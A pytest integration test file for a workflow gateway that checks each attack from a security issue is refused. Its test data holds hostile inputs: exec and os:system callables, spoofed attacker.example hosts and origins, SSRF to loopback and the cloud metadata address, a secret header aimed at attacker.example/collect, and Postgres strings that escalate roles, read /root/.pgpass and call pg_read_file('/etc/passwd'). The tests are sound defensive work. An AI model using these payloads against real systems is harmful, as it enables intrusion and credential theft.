"""The attacks of issue 15 against a real gateway, each answered as it should be now.

On the embedded default (access control off, as `make run` serves it): code, hosts,
origins, outbound requests and secrets. On PostgreSQL with access control on: what each
scope may define, and where database nodes may connect. The same attacks run on real RQ
and Prefect workers in ``tests/integration/test_worker_policy.py``.
"""

from __future__ import annotations

import asyncio
import base64
import json
from collections.abc import Iterator
from typing import Any

import httpx
import pytest
import websockets

from backends.store.api_keys import NewKey
from tests.support.api_client import (
    Gateway,
    definition,
    start,
    unique,
    wait_for_run,
)
from tests.support.gateway import client_of, running_gateway
from tests.support.http_server import Answer, Server, serve
from tests.support.keys import api_keys

TOKEN = "tok-" + "9f2c1e7b5a3d4c6e8f0a"
SECRETS_POLICY = """
secrets:
  api-token:
    workspaces: [ws1]
    uses: [http_header]
    hosts: [api.example.com, 127.0.0.2]
  pg-prod:
    workspaces: [finance]
    uses: [connection]
"""


@pytest.fixture(scope="module")
def echo() -> Iterator[Server]:
    """An API on 127.0.0.2 that echoes the Authorization header back, encoded."""
    with serve("127.0.0.2") as server:
        yield server


@pytest.fixture(scope="module")
def gateway(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Gateway]:
    data_dir = tmp_path_factory.mktemp("least-privilege")
    policy = data_dir / "secrets.yaml"
    policy.write_text(SECRETS_POLICY)
    with (
        pytest.MonkeyPatch.context() as env,
        running_gateway(data_dir, secrets_policy=policy, http_allow="127.0.0.2") as running,
    ):
        env.setenv("FIGWAY_SECRET_API_TOKEN", f"Bearer {TOKEN}")
        yield running


@pytest.fixture
def client(gateway: Gateway) -> Iterator[httpx.Client]:
    with client_of(gateway) as http:
        yield http


def put(client: httpx.Client, nodes: dict[str, Any], **extra: Any) -> tuple[str, httpx.Response]:
    workflow_id = unique("lp")
    response = client.put(f"/workflows/{workflow_id}", json=definition(workflow_id, nodes, **extra))
    return workflow_id, response


def problems(response: httpx.Response) -> dict[str, str]:
    return {error["field"]: error["message"] for error in response.json()["errors"]}


# -- code ------------------------------------------------------------------------------


@pytest.mark.parametrize("callable_", ["subprocess:getoutput", "os:getenv", "os:system",
                                       "builtins:exec", "gateway.cli.main:main",
                                       "backends.store.api_keys:ApiKeys"])  # fmt: skip
def test_a_python_node_naming_what_the_operator_did_not_allow_is_refused(
    client: httpx.Client, callable_: str
) -> None:
    workflow_id, response = put(
        client, {"shell": {"type": "python", "config": {"callable": callable_, "kwargs": {}}}}
    )
    assert response.status_code == 422
    message = problems(response)["nodes.shell.config.callable"]
    assert f"callable {callable_!r} is not allowed" in message
    assert client.get(f"/workflows/{workflow_id}").status_code == 404, "nothing was stored"


# -- who may reach the gateway -------------------------------------------------------------


def test_a_foreign_host_name_is_not_answered(gateway: Gateway) -> None:
    with httpx.Client(base_url=gateway.base_url) as http:
        assert http.get("/healthz").status_code == 200
        rebound = http.get("/healthz", headers={"Host": "attacker.example"})
        assert rebound.status_code == 421
        assert "answers only loopback host names" in rebound.json()["detail"]
        assert http.get("/healthz", headers={"Host": "localhost:8000"}).status_code == 200


def close_code(gateway: Gateway, origin: str | None) -> int:
    url = gateway.base_url.replace("http://", "ws://") + "/ws/workflow_runs/no-such-run"

    async def follow() -> int:
        headers = {"Origin": origin} if origin else {}
        async with websockets.connect(url, additional_headers=headers) as socket:
            with pytest.raises(websockets.ConnectionClosed) as closed:
                await socket.recv()
            assert closed.value.rcvd is not None
            return closed.value.rcvd.code

    return asyncio.run(follow())


def test_a_websocket_from_another_site_is_closed_and_loopback_pages_are_served(
    gateway: Gateway,
) -> None:
    assert close_code(gateway, "https://attacker.example") == 4403
    # Past the origin check, the unknown run answers 4404: the page was let through.
    assert close_code(gateway, "http://localhost:3000") == 4404
    assert close_code(gateway, None) == 4404


# -- outbound requests -------------------------------------------------------------------


def test_http_request_cannot_reach_the_gateway_or_prefect_on_loopback(
    client: httpx.Client, gateway: Gateway
) -> None:
    port = int(gateway.base_url.rsplit(":", 1)[1])
    workflow_id, response = put(
        client,
        {
            "open_port": {
                "type": "http_request",
                "config": {"url": f"http://127.0.0.1:{port}/workflow_runs/stats"},
            },
            "metadata": {
                "type": "http_request",
                "config": {"url": "http://169.254.169.254/latest/meta-data/"},
            },
        },
    )
    assert response.status_code == 201, response.text
    run = wait_for_run(client, start(client, workflow_id)["job_run_id"])
    assert run["status"] == "failed"
    assert run["nodes"]["open_port"]["error"] == (
        "destination '127.0.0.1' refused: it resolves to a loopback address, which "
        "http_request may not reach; an operator can open a host or network with "
        "FIGWAY_HTTP_ALLOW"
    )
    assert "resolves to a link-local address" in run["nodes"]["metadata"]["error"]


# -- secrets -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("headers", "url", "refusal"),
    [
        ({"Authorization": "secret:api-token"}, "https://attacker.example/collect",
         "secret 'api-token' may not be sent to 'attacker.example'"),
        ({"X-Db": "secret:pg-prod"}, "https://api.example.com/",
         "secret 'pg-prod' may not be used by workspace 'ws1'"),
        ({"Authorization": "Bearer " + TOKEN}, "https://api.example.com/",
         "header 'Authorization' holds a credential"),
    ],
)  # fmt: skip
def test_a_secret_cannot_be_sent_where_its_policy_does_not_allow(
    client: httpx.Client, headers: dict[str, str], url: str, refusal: str
) -> None:
    _, response = put(
        client, {"send": {"type": "http_request", "config": {"url": url, "headers": headers}}}
    )
    assert response.status_code == 422
    assert refusal in problems(response)["nodes.send.config.headers"]
    assert TOKEN not in response.text


def test_an_echoed_secret_is_masked_in_outputs_tables_and_downstream_errors(
    client: httpx.Client, echo: Server
) -> None:
    # The API answers with the token in clear, in base64, and as a row a transform reads.
    token = f"Bearer {TOKEN}"
    echo.answers["/whoami"] = Answer(
        body=json.dumps(
            {"seen": token, "b64": base64.b64encode(f"auth={token}".encode()).decode()}
        ).encode()
    )
    echo.answers["/rows"] = Answer(body=json.dumps([{"amount": token}]).encode())
    header = {"Authorization": "secret:api-token"}
    workflow_id, response = put(
        client,
        {
            "whoami": {
                "type": "http_request",
                "config": {"url": echo.url("/whoami"), "headers": header},
            },
            "rows": {
                "type": "http_request",
                "config": {"url": echo.url("/rows"), "headers": header, "as_table": True},
            },
            "total": {
                "type": "sql_transform",
                "config": {"query": "select cast(amount as integer) as amount from rows"},
            },
        },
        dependencies={"total": ["rows"]},
    )
    assert response.status_code == 201, response.text
    job_run_id = start(client, workflow_id)["job_run_id"]
    run = wait_for_run(client, job_run_id)
    assert run["nodes"]["whoami"]["status"] == "succeeded"
    assert run["nodes"]["total"]["status"] == "failed"
    assert "Could not convert string '***'" in run["nodes"]["total"]["error"]
    logs = client.get(f"/workflow_runs/{job_run_id}/logs").text
    everything = json.dumps(run) + logs
    assert TOKEN not in everything
    assert base64.b64encode(f"auth={token}".encode()).decode() not in everything


# -- scopes and connections, on PostgreSQL with access control on (pg_gateway, conftest) ---


@pytest.fixture(scope="module")
def keys(pg_gateway: Gateway) -> dict[str, NewKey]:
    with api_keys(pg_gateway.settings.resolved_database_url()) as store:
        return {
            "workflows": store.create(name="lp workflows", scopes=["workflows"], created_by="test"),
            "code": store.create(name="lp code", scopes=["workflows", "code"], created_by="test"),
        }


def as_key(gateway: Gateway, key: NewKey) -> httpx.Client:
    return httpx.Client(
        base_url=gateway.base_url, headers={"Authorization": f"Bearer {key.token}"}, timeout=30
    )


PYTHON = {"code": {"type": "python", "config": {"callable": "backends.nodes.demo:mean",
                                                 "kwargs": {"data": [1, 2]}}}}  # fmt: skip


@pytest.mark.service
def test_a_workflows_key_cannot_define_or_redefine_code(
    pg_gateway: Gateway, keys: dict[str, NewKey]
) -> None:
    with as_key(pg_gateway, keys["workflows"]) as plain, as_key(pg_gateway, keys["code"]) as code:
        workflow_id, refused = put(plain, PYTHON)
        assert refused.status_code == 403
        assert "may define workflows but not code: node(s) code run python" in refused.text
        assert code.get(f"/workflows/{workflow_id}").status_code == 404

        # A workflow without code is the workflows scope's to define...
        noop = {"code": {"type": "noop"}}
        response = plain.put(f"/workflows/{workflow_id}", json=definition(workflow_id, noop))
        assert response.status_code == 201, response.text
        # ...but not to turn into code, which the next client run would execute.
        redefined = plain.put(f"/workflows/{workflow_id}", json=definition(workflow_id, PYTHON))
        assert redefined.status_code == 403
        assert plain.get(f"/workflows/{workflow_id}").json()["version"] == 1
        allowed = code.put(f"/workflows/{workflow_id}", json=definition(workflow_id, PYTHON))
        assert allowed.status_code == 200, allowed.text


@pytest.mark.service
@pytest.mark.parametrize(
    ("connection", "says"),
    [
        ("postgresql://postgres@127.0.0.1:5432/postgres",
         "host '127.0.0.1' may not be named in a definition here"),
        ("postgresql://etl@db.internal/sales?options=-c%20role%3Dpostgres",
         "option(s) options are not allowed"),
        ("postgresql://etl@db.internal/sales?passfile=/root/.pgpass",
         "option(s) passfile are not allowed"),
    ],
)  # fmt: skip
def test_in_production_database_nodes_connect_only_through_secrets(
    pg_gateway: Gateway, keys: dict[str, NewKey], connection: str, says: str
) -> None:
    node = {"read": {"type": "postgres_extract", "config": {
        "connection": connection, "query": "select pg_read_file('/etc/passwd')"}}}  # fmt: skip
    with as_key(pg_gateway, keys["workflows"]) as client:
        _, response = put(client, node)
    assert response.status_code == 422
    assert says in problems(response)["nodes.read.config.connection"]
